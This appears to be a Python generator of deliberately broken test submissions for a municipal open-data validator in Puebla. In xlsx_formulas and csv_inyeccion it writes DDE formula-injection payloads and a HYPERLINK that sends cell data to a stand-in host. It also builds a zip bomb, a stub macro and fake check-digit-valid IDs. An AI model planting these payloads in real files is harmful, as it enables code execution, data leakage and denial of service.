"""Regenerate the broken DATA examples: dataset_forms/ejemplos/rotos/datos-*/.

Run from the repository root:  .venv/bin/python dataset_forms/generar_ejemplos_datos.py

Each folder is the small valid "mercados" submission of generar_ejemplos.py (same
workbook, logo and dictionary) whose data file is spoiled in ONE way the data checks
must catch: encoding, header, dictionary, values, personal data, geometry. What each
must produce is listed in ejemplos/rotos/esperado.yaml (entries "datos-*").

Personal identifiers are fake but pass their check digits (the point is to be caught).
"""

from __future__ import annotations

import io
import json
import re
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import generar_ejemplos as forms
import geopandas as gpd
from openpyxl import Workbook
from shapely.geometry import Point

FIXED_TIME = (2024, 1, 1, 0, 0, 0)
HEADER = ["mercado", "colonia", "locales"]
ROWS: list[list[object]] = [
    ["Mercado 5 de Mayo", "Centro Histórico", 412],
    ["Mercado Zaragoza", "Zaragoza", 238],
    ["Mercado La Acocota", "Analco", 150],
]
# Lon/lat of the three markets (approximate), for the spatial examples.
COORDS = [(-98.1989, 19.0452), (-98.1867, 19.0561), (-98.1872, 19.0386)]

# Fake identifiers with valid check digits.
CURP = "BOXW310820HNERXN09"
RFC = "BOXW310820AB1"
INE = "GMVLMR80070501M100"
NSS = "12345678903"
CLABE = "032180000118359719"
PHONE = "222 123 4567"
EMAIL = "administrador.mercado@gmail.com"


def rows() -> list[list[object]]:
    return [list(r) for r in ROWS]


def with_file(name: str, content: bytes, formato: str = "CSV", visualizacion: str = "Tabla") -> forms.Example:
    """The base submission with its data file replaced."""
    example = forms.base()
    del example.files["mercados.csv"]
    example.files[name] = content
    example.recursos[0][0] = name
    example.recursos[0][1] = visualizacion
    example.recursos[0][6] = formato
    return example


def csv_example(header: list[str], data: list[list[object]], encoding: str = "utf-8") -> forms.Example:
    content = forms.to_csv(header, data).decode("utf-8").encode(encoding)
    return with_file("mercados.csv", content)


def add_term(example: forms.Example, term: str, description: str) -> forms.Example:
    example.diccionario.append([1, term, description])
    return example


def personal(column: str, description: str, value: str) -> forms.Example:
    data = rows()
    data[0].append(value)
    for row in data[1:]:
        row.append("")
    return add_term(csv_example([*HEADER, column], data), column, description)


def xlsx_merged_header() -> forms.Example:
    book = Workbook()
    sheet = book.active
    sheet.title = "Mercados"
    sheet.append(["Mercado", None, "locales"])
    sheet.merge_cells("A1:B1")
    for row in rows():
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return with_file("mercados.xlsx", reproducible_zip(buffer.getvalue()), formato="XLSX")


def geojson(coords: list[tuple[float, float]], bowtie_at: int | None = None) -> bytes:
    features = []
    for index, ((lon, lat), row) in enumerate(zip(coords, rows(), strict=True)):
        geometry: dict[str, object] = {"type": "Point", "coordinates": [lon, lat]}
        if index == bowtie_at:  # a self-intersecting "bow tie" polygon around the market
            d = 0.001
            ring = [[lon - d, lat - d], [lon + d, lat + d], [lon + d, lat - d], [lon - d, lat + d], [lon - d, lat - d]]
            geometry = {"type": "Polygon", "coordinates": [ring]}
        features.append({"type": "Feature", "properties": dict(zip(HEADER, row, strict=True)), "geometry": geometry})
    return json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False, indent=1).encode()


def shapefile_without_prj() -> bytes:
    frame = gpd.GeoDataFrame(
        {name: [r[i] for r in rows()] for i, name in enumerate(HEADER)},
        geometry=[Point(lon, lat) for lon, lat in COORDS],
        crs=4326,
    )
    with tempfile.TemporaryDirectory() as tmp:
        frame.to_file(Path(tmp) / "mercados.shp", engine="pyogrio", encoding="utf-8")
        dbf = bytearray((Path(tmp) / "mercados.dbf").read_bytes())
        dbf[1:4] = bytes([124, 1, 1])  # the DBF header stores "last update" (YY-1900, MM, DD): fix it
        (Path(tmp) / "mercados.dbf").write_bytes(dbf)
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for ext in ("shp", "shx", "dbf", "cpg"):  # no .prj: the CRS is lost
                part = Path(tmp) / f"mercados.{ext}"
                if part.exists():
                    archive.writestr(zipfile.ZipInfo(part.name, FIXED_TIME), part.read_bytes(), zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def reproducible_zip(data: bytes) -> bytes:
    """The same zip (xlsx) with fixed member times and document dates, so regenerating
    the examples does not change committed binaries."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*", rb"\g<1>2024-01-01T00:00:00Z", content)
            target.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def type_error_after_sample() -> forms.Example:
    # Frictionless infers column types from the first 1000 rows; a text in row 1101 of a
    # numeric column is then a type error (before that it would be "tipos-mezclados").
    data = [[f"Local {i}", forms.COLONIAS[i % len(forms.COLONIAS)], 10 + i % 90] for i in range(1, 1201)]
    data[1099][2] = "N/D"
    return csv_example(HEADER, data)


# ISO dates, one of which does not exist (April has 30 days).
IMPOSSIBLE = ["1974-03-10", "1981-04-31", "1990-02-28"]


def examples() -> dict[str, Callable[[], forms.Example]]:
    return {
        "datos-latin1": lambda: csv_example(HEADER, rows(), encoding="cp1252"),
        "datos-encabezado-combinado": xlsx_merged_header,
        "datos-dos-encabezados": lambda: csv_example(["datos del mercado", "", ""], [HEADER, *rows()]),
        "datos-encabezado-duplicado": lambda: csv_example(["mercado", "colonia", "colonia"], rows()),
        "datos-encabezado-vacio": lambda: csv_example(["mercado", "colonia", ""], rows()),
        "datos-columna-sin-diccionario": lambda: csv_example(
            [*HEADER, "superficie_m2"], [[*r, 1500 + i] for i, r in enumerate(rows())]
        ),
        "datos-termino-sin-columna": lambda: add_term(
            csv_example(HEADER, rows()), "alcaldia", "Alcaldía o junta auxiliar del mercado."
        ),
        "datos-tipo-invalido": type_error_after_sample,
        "datos-tipos-mezclados": lambda: csv_example(HEADER, [*rows(), ["Mercado Hidalgo", "Centro", "sin dato"]]),
        "datos-fila-totales": lambda: csv_example(HEADER, [*rows(), ["TOTAL GENERAL", "", 800]]),
        "datos-separador-miles": lambda: csv_example(HEADER, [[m, c, f"{n * 10:,}"] for m, c, n in rows()]),
        "datos-fecha-no-iso": lambda: add_term(
            csv_example([*HEADER, "fecha_apertura"], [[*r, f"{10 + i}/03/19{70 + i}"] for i, r in enumerate(rows())]),
            "fecha_apertura",
            "Fecha en que abrió el mercado.",
        ),
        "datos-fecha-imposible": lambda: add_term(
            csv_example([*HEADER, "fecha_apertura"], [[*r, d] for r, d in zip(rows(), IMPOSSIBLE, strict=True)]),
            "fecha_apertura",
            "Fecha en que abrió el mercado.",
        ),
        "datos-filas-vacias-y-duplicadas": lambda: csv_example(HEADER, [*rows()[:2], ["", "", ""], *rows()[1:]]),
        "datos-personales-curp": lambda: personal("administrador_curp", "CURP del administrador.", CURP),
        "datos-personales-rfc": lambda: personal("administrador_rfc", "RFC del administrador.", RFC),
        "datos-personales-ine": lambda: personal("clave_elector", "Clave de elector del administrador.", INE),
        "datos-personales-nss": lambda: personal("nss_administrador", "NSS del administrador.", NSS),
        "datos-personales-clabe": lambda: personal("cuenta_clabe", "Cuenta para depósitos.", CLABE),
        "datos-personales-telefono": lambda: personal("telefono_administrador", "Teléfono del administrador.", PHONE),
        "datos-personales-correo": lambda: personal("correo_administrador", "Correo del administrador.", EMAIL),
        "datos-geometria-invalida": lambda: with_file(
            "mercados.geojson", geojson(COORDS, bowtie_at=1), formato="GEOJSON", visualizacion="Mapa"
        ),
        "datos-geo-fuera-de-puebla": lambda: with_file(
            "mercados.geojson",
            geojson([COORDS[0], (COORDS[1][1], COORDS[1][0]), COORDS[2]]),
            formato="GEOJSON",
            visualizacion="Mapa",
        ),
        "datos-shp-sin-crs": lambda: with_file(
            "mercados.zip", shapefile_without_prj(), formato="SHP", visualizacion="Mapa"
        ),
    }


# --- deliveries as agencies really send them (issue 14) --------------------------------
#
# Each example is another agency's submission with its own layout, encoding and tool:
# a report printed to CSV with a title block, a LibreOffice/ODS sheet with a two-row
# header, a semicolon-separated Windows export of an older system, Excel workbooks with
# formulas or macros, zipped shapefiles made on Windows... Expected findings: esperado.yaml.

AGENCIES = {
    "dif": [21, "Sistema Municipal DIF", "Asistencia social a niñas, niños, personas mayores y familias.", "logo.png"],
    "bienestar": [18, "Secretaría de Bienestar y Participación Ciudadana", "Programas sociales del municipio.",
                  "logo.png"],
    "movilidad": [15, "Secretaría de Movilidad", "Planea la movilidad y el transporte del municipio.", "logo.png"],
    "tesoreria": [3, "Tesorería Municipal", "Recauda y administra los ingresos del municipio.", "logo.png"],
    "seguridad": [25, "Secretaría de Seguridad Ciudadana", "Prevención del delito y atención de emergencias.",
                  "logo.png"],
    "ambiente": [27, "Secretaría de Medio Ambiente", "Protege el arbolado, los parques y el aire del municipio.",
                 "logo.png"],
    "sisp": [12, "Secretaría de Infraestructura y Servicios Públicos", "Obra pública y servicios municipales.",
             "logo.png"],
}


def delivery(
    agency: str,
    dataset: str,
    tema: str,
    files: dict[str, bytes],
    formatos: dict[str, str],
    terms: list[tuple[str, str]],
    visualizacion: str = "Tabla",
) -> forms.Example:
    """One agency's submission: one dataset, one resource per file."""
    dependencia = list(AGENCIES[agency])
    recursos = [
        [name, visualizacion, f"{dataset} ({name})", forms.date(2024, 1, 1), forms.date(2024, 12, 31), 1, formato]
        for name, formato in formatos.items()
    ]
    return forms.Example(
        dependencias=[dependencia],
        datasets=[[1, dataset, f"{dataset}, entregado por {dependencia[1]}.", "datos abiertos", dependencia[0],
                   tema, "anual", "Laura Méndez Ríos", "laura.mendez@pueblacapital.gob.mx"]],
        recursos=recursos,
        diccionario=forms.dictionary(1, terms),
        files={**files, "logo.png": forms.logo(agency.upper()[:4])},
    )


def xlsx_bytes(rows: list[list[object]], *, title: str = "Hoja1", merges: tuple[str, ...] = (),
               after: Callable[[Workbook], None] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for ref in merges:
        sheet.merge_cells(ref)
    if after:
        after(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return reproducible_zip(buffer.getvalue())


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, FIXED_TIME), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def programa_obra_csv() -> forms.Example:
    # SISP's work programme, printed from its report system to CSV (Windows line ends):
    # title block, blank line, header on row 4, header repeated after a page break, notes.
    header = ["obra", "colonia", "fecha_inicio", "inversion", "beneficiarios"]
    lines = [
        "H. AYUNTAMIENTO DE PUEBLA,,,,",
        "PROGRAMA ANUAL DE OBRA PÚBLICA 2024,,,,",
        ",,,,",
        ",".join(header),
        "Rehabilitación de la 14 Sur,Azcárate,2024-02-05,1850000,1200",
        "Alumbrado en el parque Juárez,La Paz,2024-03-11,420000,800",
        "Pavimentación de la 5 de Mayo,Centro,2024-04-01,2300000,2500",
        ",".join(header),
        "Bacheo en San Manuel,San Manuel,2024-05-06,310000,1800",
        "Banquetas del mercado Zaragoza,Zaragoza,2024-06-03,560000,950",
        ",,,,",
        "Fuente: Secretaría de Infraestructura y Servicios Públicos,,,,",
        "* Cifras preliminares al 30 de junio de 2024,,,,",
    ]
    content = ("\r\n".join(lines) + "\r\n").encode("utf-8")
    return delivery("sisp", "Programa anual de obra pública", "Infraestructura y Servicios Públicos",
                    {"programa_obra_2024.csv": content}, {"programa_obra_2024.csv": "CSV"},
                    [(h, f"Columna {h} del programa de obra.") for h in header])


def eventos_dif_csv() -> forms.Example:
    # DIF's events log from an older system: semicolon-separated, Windows-1252, quantities
    # with words, a percentage typed in the date column, Excel serial dates.
    header = ["evento", "fecha", "asistencia", "avance"]
    rows = [
        ["Feria de la familia", "2024-02-10", "1,022 asistentes al evento", "100%"],
        ["Jornada de salud", "45352", "2,598 participantes", "85%"],
        ["Taller de lectura", "45%", "35 niñas y niños", "45%"],
        ["Día del niño", "2024-04-30", "3,400 asistentes", "100%"],
    ]
    text = ";".join(header) + "\r\n" + "".join(";".join(r) + "\r\n" for r in rows)
    return delivery("dif", "Eventos del DIF municipal", "Salud y Bienestar",
                    {"eventos_dif.csv": text.encode("cp1252")}, {"eventos_dif.csv": "CSV"},
                    [(h, f"{h.capitalize()} del evento.") for h in header])


def padron_ods_dos_filas() -> forms.Example:
    # Bienestar's register exported from LibreOffice Calc (.ods) with a grouped two-row header.
    import pandas as pd

    rows = [
        ["Programa", None, "Apoyo", None],
        ["programa", "colonia", "monto", "fecha_entrega"],
        ["Mujeres emprendedoras", "Centro", 5000, "2024-03-01"],
        ["Mujeres emprendedoras", "La Paz", 5000, "2024-03-01"],
        ["Becas municipales", "Analco", 2500, "2024-03-15"],
    ]
    buffer = io.BytesIO()
    pd.DataFrame(rows).to_excel(buffer, engine="odf", header=False, index=False)
    terms = [("programa", "Programa social."), ("colonia", "Colonia."), ("monto", "Monto en pesos."),
             ("fecha_entrega", "Fecha de entrega.")]
    return delivery("bienestar", "Apoyos entregados por colonia", "Salud y Bienestar",
                    {"apoyos_colonia.ods": reproducible_odf(buffer.getvalue())}, {"apoyos_colonia.ods": "ODS"}, terms)


def reproducible_odf(data: bytes) -> bytes:
    """Fixed member times and document dates; «mimetype» stays first and stored, as ODF requires."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "meta.xml":
                content = re.sub(rb"(<(?:meta:creation-date|dc:date)>)[^<]*", rb"\g<1>2024-01-01T00:00:00", content)
            target.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), content, info.compress_type)
    return out.getvalue()


def pdf_como_csv() -> forms.Example:
    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n%%EOF\n"
    return delivery("tesoreria", "Ingresos por predial", "Finanzas", {"ingresos_predial.csv": pdf},
                    {"ingresos_predial.csv": "CSV"}, [("mes", "Mes."), ("monto", "Monto recaudado.")])


def html_como_xlsx() -> forms.Example:
    # An expired download link saved "as Excel": the server's error page.
    html = ("<!DOCTYPE html>\n<html lang='es'><head><title>Sesión expirada</title></head>"
            "<body><h1>Su sesión ha expirado</h1></body></html>\n").encode()
    return delivery("movilidad", "Aforos vehiculares", "Movilidad y Transporte", {"aforos.xlsx": html},
                    {"aforos.xlsx": "XLSX"}, [("crucero", "Crucero."), ("vehiculos", "Vehículos por hora.")])


def xlsx_con_macros() -> forms.Example:
    data = xlsx_bytes([["colonia", "reportes"], ["Centro", 12], ["La Paz", 7]])
    data = with_member(data, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name")
    return delivery("seguridad", "Reportes ciudadanos por colonia", "Seguridad y Justicia",
                    {"reportes_colonia.xlsx": data}, {"reportes_colonia.xlsx": "XLSX"},
                    [("colonia", "Colonia."), ("reportes", "Número de reportes.")])


def xlsx_formulas() -> forms.Example:
    rows = [
        ["parque", "superficie_m2", "ficha"],
        ["Parque Juárez", 32000, '=HYPERLINK("https://pueblacapital.gob.mx/parques/juarez","ficha")'],
        ["Parque Ecológico", 580000, "=cmd|' /C calc'!A0"],
        ["Paseo Bravo", "#REF!", "=B2*2"],
    ]
    return delivery("ambiente", "Parques y jardines", "Medio Ambiente",
                    {"parques.xlsx": xlsx_bytes(rows, title="Parques")}, {"parques.xlsx": "XLSX"},
                    [("parque", "Nombre del parque."), ("superficie_m2", "Superficie."), ("ficha", "Ficha web.")])


def csv_inyeccion() -> forms.Example:
    header = ["reporte", "colonia", "comentario"]
    rows = [["R-001", "Centro", "Bache profundo"], ["R-002", "La Paz", '=HYPERLINK("http://ejemplo.invalido/?d="&A2,"ver")'],
            ["R-003", "Analco", "@SUM(1+1)*cmd|' /C calc'!A0"]]
    return delivery("seguridad", "Reportes del 072", "Infraestructura y Servicios Públicos",
                    {"reportes_072.csv": forms.to_csv(header, rows)}, {"reportes_072.csv": "CSV"},
                    [(h, f"{h.capitalize()}.") for h in header])


def xlsx_bomba() -> forms.Example:
    data = xlsx_bytes([["colonia", "luminarias"], ["Centro", 40]])
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("xl/media/image1.bin", FIXED_TIME)
        archive.writestr(info, b"\x00" * (60 * 1024 * 1024), zipfile.ZIP_DEFLATED)
    return delivery("sisp", "Luminarias por colonia", "Infraestructura y Servicios Públicos",
                    {"luminarias.xlsx": out.getvalue()}, {"luminarias.xlsx": "XLSX"},
                    [("colonia", "Colonia."), ("luminarias", "Luminarias instaladas.")])


def shp_en_carpeta() -> forms.Example:
    # Made on Windows: right click on the folder > Enviar a > Carpeta comprimida; the DBF
    # cut «arboles_plantados» to «arboles_pl».
    frame = gpd.GeoDataFrame(
        {"vivero": ["Flor del Bosque", "Amalucan"], "arboles_plantados": [120, 85]},
        geometry=[Point(-98.1456, 19.0236), Point(-98.1548, 19.0697)],
        crs=4326,
    )
    buffer = io.BytesIO()
    with tempfile.TemporaryDirectory() as tmp:
        frame.to_file(Path(tmp) / "reforestacion.shp", engine="pyogrio", encoding="utf-8")
        dbf = bytearray((Path(tmp) / "reforestacion.dbf").read_bytes())
        dbf[1:4] = bytes([124, 1, 1])
        (Path(tmp) / "reforestacion.dbf").write_bytes(dbf)
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for ext in ("shp", "shx", "dbf", "prj", "cpg"):
                part = Path(tmp) / f"reforestacion.{ext}"
                if part.exists():
                    archive.writestr(zipfile.ZipInfo(f"reforestacion/{part.name}", FIXED_TIME), part.read_bytes(),
                                     zipfile.ZIP_DEFLATED)
    return delivery("ambiente", "Reforestación 2024", "Medio Ambiente", {"reforestacion.zip": buffer.getvalue()},
                    {"reforestacion.zip": "SHP"},
                    [("vivero", "Vivero de origen."), ("arboles_plantados", "Árboles plantados.")], "Mapa")


def csv_coordenadas() -> forms.Example:
    header = ["paradero", "ruta", "latitud", "longitud"]
    rows = [["Paradero CU", "RUTA 1", "19.0019", "-98.2033"], ["Paradero Capu", "RUTA 2", "0", "0"],
            ["Paradero 11 Sur", "RUTA 3", "-98.2115", "19.0279"], ["Paradero Xonaca", "RUTA 2", "19.0533", "-98.1797"]]
    return delivery("movilidad", "Paraderos de transporte", "Movilidad y Transporte",
                    {"paraderos.csv": forms.to_csv(header, rows)}, {"paraderos.csv": "CSV"},
                    [(h, f"{h.capitalize()} del paradero.") for h in header])


def solicitudes_personales() -> forms.Example:
    # Bienestar's applications exported from Excel: a CURP with a typo in its last
    # character, phones inside comments, home addresses, NSS typed as numbers (lost zero),
    # and programme folios that only look like CURP.
    from stdnum import luhn

    nss = "0" + "123456789"
    nss += luhn.calc_check_digit(nss)
    good = CURP
    typo = CURP[:-1] + str((int(CURP[-1]) + 1) % 10)
    rows = [
        ["folio", "domicilio", "nss", "observaciones", "curp"],
        ["PBEC240115HPUEBA01", "Privada Las Flores #12, Col. Los Pinos", int(nss),
         "Llamar al 22 21 23 45 67 por la tarde", good],
        ["PBEC240116MPUEBA02", "Calle 3 Poniente 1107", 9876543210, "Se le notificó al 222 555 0143", typo],
        ["PBEC240117HPUEBA03", "", None, "Sin observaciones", ""],
    ]
    terms = [("folio", "Folio del apoyo."), ("domicilio", "Domicilio del solicitante."),
             ("nss", "Número de seguridad social."), ("observaciones", "Comentarios."), ("curp", "CURP.")]
    return delivery("bienestar", "Solicitudes de apoyo", "Salud y Bienestar",
                    {"solicitudes.xlsx": xlsx_bytes(rows, title="Solicitudes")}, {"solicitudes.xlsx": "XLSX"}, terms)


def modulos_kml(names: list[str]) -> bytes:
    """A KML as Google Earth or QGIS export it: one Placemark per point, Name and Description."""
    placemarks = "".join(
        f"<Placemark><name>{name}</name><description>Módulo de policía {name}</description>"
        f"<Point><coordinates>{lon},{lat},0</coordinates></Point></Placemark>"
        for name, (lon, lat) in zip(names, COORDS, strict=True)
    )
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
            f"{placemarks}</Document></kml>\n").encode()


MODULOS = ["Módulo CU", "Módulo Capu", "Módulo Xonaca"]


def diccionario_por_recurso(recurso_kml: str = "Ubicación de los módulos") -> forms.Example:
    # Seguridad's modules: a table (CSV) and a map (KML) in one dataset. Each term of the
    # Diccionario names its resource (column «Recurso»): the CSV by its file name, the KML
    # by its Nombre del Recurso. The KML's «Name» means the same as the CSV's «modulo».
    header = ["modulo", "colonia", "elementos"]
    rows = [[name, colonia, n] for name, colonia, n in zip(MODULOS, ["Ciudad Universitaria", "Capu", "Xonaca"],
                                                            [12, 8, 10], strict=True)]
    example = delivery("seguridad", "Módulos de policía", "Seguridad y Justicia",
                       {"modulos_policia.csv": forms.to_csv(header, rows),
                        "ubicacion_modulos.kml": modulos_kml(MODULOS)},
                       {"modulos_policia.csv": "CSV", "ubicacion_modulos.kml": "KML"}, [])
    example.recursos[0][2] = "Módulos de policía 2024"
    example.recursos[1][1] = "Mapa"
    example.recursos[1][2] = "Ubicación de los módulos"
    example.diccionario = [
        [1, "modulo", "Nombre del módulo de policía.", "modulos_policia.csv"],
        [1, "colonia", "Colonia donde está el módulo.", "modulos_policia.csv"],
        [1, "elementos", "Elementos de policía asignados al módulo.", "modulos_policia"],
        [1, "Name", "Nombre del módulo en el mapa.", recurso_kml],
        [1, "Description", "Descripción del punto en el mapa.", recurso_kml],
    ]
    return example


def predial_utf16() -> forms.Example:
    # Tesorería's collection report exported with PowerShell's Export-Csv -Encoding Unicode:
    # UTF-16 LE with BOM, every field quoted, Windows line ends.
    header = ["colonia", "cuentas", "recaudado"]
    rows = [["Centro Histórico", 1843, 12450300.5], ["La Paz", 2210, 15320100.0], ["Azcárate", 987, 4120750.25]]
    lines = [",".join(f'"{v}"' for v in row) for row in [header, *rows]]
    content = ("\r\n".join(lines) + "\r\n").encode("utf-16")  # Python writes the BOM, little-endian here
    return delivery("tesoreria", "Recaudación del impuesto predial", "Finanzas",
                    {"predial_2024.csv": content}, {"predial_2024.csv": "CSV"},
                    [("colonia", "Colonia."), ("cuentas", "Cuentas prediales pagadas."),
                     ("recaudado", "Monto recaudado en pesos.")])


def aforos_mac_cr() -> forms.Example:
    # Movilidad's traffic counts saved from Excel for Mac as «CSV (Macintosh)»: rows end in a
    # lone CR. The table itself is fine.
    header = ["crucero", "fecha", "vehiculos"]
    rows = [["Blvd. 5 de Mayo y 25 Poniente", "2024-03-04", 18250], ["Av. Juárez y 25 Sur", "2024-03-04", 12400],
            ["Blvd. Atlixco y Periférico", "2024-03-05", 23110], ["Diagonal Defensores y 11 Sur", "2024-03-05", 9870]]
    content = forms.to_csv(header, rows).replace(b"\n", b"\r")
    return delivery("movilidad", "Aforos vehiculares", "Movilidad y Transporte",
                    {"aforos_2024.csv": content}, {"aforos_2024.csv": "CSV"},
                    [("crucero", "Crucero aforado."), ("fecha", "Día del aforo."),
                     ("vehiculos", "Vehículos contados en el día.")])


def asistencia_transpuesta() -> forms.Example:
    # DIF's daily attendance, exported from a pivot table: one column per day of 2023-2024
    # (731 columns), over the column limit.
    import datetime as dt

    days = [(dt.date(2023, 1, 1) + dt.timedelta(days=i)).isoformat() for i in range(731)]
    centers = ["CDC San Ramón", "CDC Bosques de San Sebastián", "CDC Romero Vargas"]
    rows = [[center, *((i * 7 + j) % 60 for j in range(len(days)))] for i, center in enumerate(centers)]
    return delivery("dif", "Asistencia a los centros comunitarios", "Salud y Bienestar",
                    {"asistencia_centros.csv": forms.to_csv(["centro", *days], rows)},
                    {"asistencia_centros.csv": "CSV"},
                    [("centro", "Centro de Desarrollo Comunitario."), ("asistentes", "Personas atendidas en el día.")])


def reportes_072_largo() -> forms.Example:
    # 072's service reports: 1,500 rows, over the 1,000-row limit the manifest sets for this
    # example (the real limit, 2,000,000 rows, is exercised by tests, not by a committed file).
    header = ["folio", "servicio", "colonia", "fecha"]
    services = ["Bacheo", "Alumbrado", "Recolección", "Fuga de agua", "Poda"]
    colonias = ["Centro", "La Paz", "Azcárate", "San Manuel", "Xonaca"]
    rows = [[f"072-{i:06d}", services[i % 5], colonias[(i * 3) % 5], f"2024-{i % 12 + 1:02d}-{i % 28 + 1:02d}"]
            for i in range(1500)]
    return delivery("sisp", "Reportes ciudadanos al 072", "Infraestructura y Servicios Públicos",
                    {"reportes_072.csv": forms.to_csv(header, rows)}, {"reportes_072.csv": "CSV"},
                    [(h, f"{h.capitalize()} del reporte.") for h in header])


def real_world() -> dict[str, Callable[[], forms.Example]]:
    return {
        "datos-reporte-con-titulo": programa_obra_csv,
        "datos-valores-con-unidades": eventos_dif_csv,
        "datos-ods-dos-filas-encabezado": padron_ods_dos_filas,
        "datos-pdf-renombrado": pdf_como_csv,
        "datos-html-renombrado": html_como_xlsx,
        "datos-xlsx-con-macros": xlsx_con_macros,
        "datos-formulas": xlsx_formulas,
        "datos-inyeccion-csv": csv_inyeccion,
        "datos-bomba-zip": xlsx_bomba,
        "datos-shp-en-carpeta": shp_en_carpeta,
        "datos-coordenadas": csv_coordenadas,
        "datos-personales-solicitudes": solicitudes_personales,
        "datos-diccionario-por-recurso": diccionario_por_recurso,
        # «Mapa de los módulos» is not the resource's Nombre («Ubicación de los módulos»).
        "datos-diccionario-recurso-inexistente": lambda: diccionario_por_recurso("Mapa de los módulos"),
        "datos-utf16": predial_utf16,
        "datos-mac-cr": aforos_mac_cr,
        "datos-demasiadas-columnas": asistencia_transpuesta,
        "datos-demasiadas-filas": reportes_072_largo,
    }


def macro_form(folder: Path) -> None:
    """The FORM.317 itself with a VBA project (an .xlsm saved under .xlsx)."""
    (folder / "FORM.317.xlsx").unlink(missing_ok=True)  # written from scratch: reproducible_zip fixes the times
    forms.base().write(folder)
    path = folder / "FORM.317.xlsx"
    data = with_member(path.read_bytes(), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Attribute VB_Name")
    path.write_bytes(reproducible_zip(data))


def main(only: list[str]) -> None:
    """Write every example, or only the folders named on the command line."""
    for name, make in {**examples(), **real_world()}.items():
        if not only or name in only:
            make().write(forms.ROTOS / name)
    if not only or "formulario-con-macros" in only:
        macro_form(forms.ROTOS / "formulario-con-macros")
    print(f"Ejemplos de datos escritos en {forms.ROTOS}")


if __name__ == "__main__":
    main(sys.argv[1:])
